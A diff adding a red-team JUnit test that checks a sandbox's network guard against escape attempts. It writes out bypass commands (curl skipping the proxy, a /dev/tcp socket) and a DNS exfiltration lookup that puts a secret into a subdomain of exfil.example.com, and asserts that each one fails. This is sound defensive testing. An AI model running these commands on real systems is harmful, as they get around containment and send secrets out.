@@ -184,6 +184,23 @@ class GuardedSandboxRedTeamTest {
     }
 
     @Test
+    void bypassingTheGuardReachesNothing() throws Exception {
+        int before = upstream.received.size();
+        int queries = RESOLVER.queries.size();
+        // The upstream listens on the host's loopback; the sandbox's loopback is its own namespace.
+        ExecResult direct = sh("curl -sS --fail -m 5 --noproxy '*' -k https://127.0.0.1:" + upstream.port() + "/direct");
+        assertThat(direct.exitCode()).isNotZero();
+        ExecResult noProxy = sh("env -i /usr/bin/curl -sS --fail -m 5 -k https://api.test:" + upstream.port() + "/envi");
+        assertThat(noProxy.exitCode()).isNotZero();
+        ExecResult devTcp = sh("exec 3<>/dev/tcp/127.0.0.1/" + upstream.port() + " && echo open");
+        assertThat(devTcp.stdoutText()).doesNotContain("open");
+        ExecResult dns = sh(SECRET + "getent hosts $K.exfil.example.com || echo unresolved");
+        assertThat(dns.stdoutText().strip()).isEqualTo("unresolved");
+        assertThat(upstream.received).hasSize(before);
+        assertThat(RESOLVER.queries).hasSize(queries);
+    }
+
+    @Test
     void crLfInConnectHostIsRejected() throws Exception {
         int before = upstream.received.size();
         int dials = CONNECTOR.dials.size();
